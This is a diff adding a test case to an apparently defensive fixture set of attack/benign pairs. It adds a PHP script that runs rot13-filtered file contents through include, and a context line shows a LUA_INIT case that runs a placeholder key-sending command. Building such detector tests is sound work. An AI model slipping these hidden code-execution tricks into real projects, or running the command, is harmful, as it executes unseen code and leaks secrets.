@@ -96,6 +96,25 @@ export const WRITTEN: readonly Pair[] = [
     },
   },
   {
+    name: 'a file that PHP runs through a filter',
+    attack: {
+      ...script(
+        'scripts/report.php',
+        "<?php include 'php://filter/read=string.rot13/resource=data/notes.txt';\n",
+        'Run `php scripts/report.php`.',
+      ),
+      'data/notes.txt': 'abgrf bs guvf jrrx\n',
+    },
+    twin: {
+      ...script(
+        'scripts/report.php',
+        "<?php echo file_get_contents('php://filter/read=string.rot13/resource=data/notes.txt');\n",
+        'Run `php scripts/report.php`.',
+      ),
+      'data/notes.txt': 'abgrf bs guvf jrrx\n',
+    },
+  },
+  {
     name: 'a variable that holds what Lua runs first',
     attack: {
       ...run(`export LUA_INIT='os.execute("${SENDS_KEY}")'\nlua scripts/a.lua`),
